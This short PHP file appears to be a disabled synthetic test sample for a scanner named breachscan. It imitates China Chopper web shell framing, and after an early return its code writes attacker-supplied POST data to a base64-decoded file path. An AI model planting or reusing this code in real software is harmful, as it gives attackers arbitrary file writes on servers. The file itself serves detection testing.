<?php
// synthetic test sample for breachscan: China Chopper server-side framing around a
// request-driven file write. Disabled.
return;
echo("->|");
$f = base64_decode($_POST["z1"]);
echo(@fwrite(fopen($f, "w"), $_POST["z2"]) ? "1" : "0");
echo("|<-");
